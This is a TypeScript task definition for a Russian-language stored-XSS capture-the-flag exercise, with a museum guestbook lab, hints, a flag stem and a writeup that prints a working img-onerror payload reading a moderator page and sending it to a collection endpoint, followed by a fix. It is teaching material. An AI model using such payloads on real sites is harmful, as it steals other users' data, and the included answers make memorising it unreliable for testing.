import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const storedScript: TaskSeed = {
  id: 109,
  title: 'Отзыв с сюрпризом',
  difficulty: 'medium',
  points: 150,
  important: false,
  status: 'active',
  description: md`
    В книге отзывов музея можно поблагодарить экскурсовода. Каждый отзыв перед публикацией читает
    модератор — сценарий в настоящем браузере, который заходит раз в минуту и смотрит все новые
    записи.

    ### Что известно

    - текст отзыва выводится без экранирования, но тег \`<script>\` вырезается;
    - имя автора экранируется и попадает в текст;
    - ссылка на сайт автора попадает в атрибут \`href\`.

    ### Задание

    Выполните JavaScript в браузере модератора и узнайте содержимое его страницы \`/moderator/notes\`.
    Принять результат можно в «ловушке»: всё, что придёт на \`/trap?data=…\` в той же лаборатории,
    появится на странице \`/trap/log\`.

    Cookie модератора помечена \`HttpOnly\`, красть её бесполезно. Зато сценарий, работающий на
    странице, может всё, что может сам модератор.
  `,
  flags: [{ id: 1091, prefix: 'flag', stem: 'output_is_context' }],
  hints: [
    {
      id: 1091,
      cost: 0,
      text: md`
        Код запускают не только теги \`<script>\`. Подойдёт любой элемент с обработчиком события,
        например картинка, которая не загрузилась.
      `,
    },
    {
      id: 1092,
      cost: 15,
      text: md`
        Прочитайте страницу через \`fetch('/moderator/notes')\` и отправьте её текст в ловушку вторым
        запросом. Не забудьте \`encodeURIComponent\`.
      `,
    },
  ],
  attachments: [],
  writeup: {
    rule: 'after_solve',
    content: md`
      Фильтр убирает тег, но не обработчики:

      \`\`\`html
      <img src="x" onerror="
        fetch('/moderator/notes')
          .then(answer => answer.text())
          .then(text => fetch('/trap?data=' + encodeURIComponent(text)))
      ">
      \`\`\`

      Через минуту текст заметок появится в \`/trap/log\`.

      **Почему не помог \`HttpOnly\`?** Он прячет cookie от сценария, но браузер всё равно прикладывает
       её к запросам той же страницы.

      **Исправление:** экранировать вывод по месту (текст, атрибут, адрес — три разных правила), а
       вторым рубежом включить политику безопасности содержимого, которая запрещает встроенные
       сценарии.
    `,
  },
  lab: {
    expectedSeconds: 20,
    lifetimeSeconds: 3600,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Книга отзывов', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 10],
  gitlabId: 4109,
}
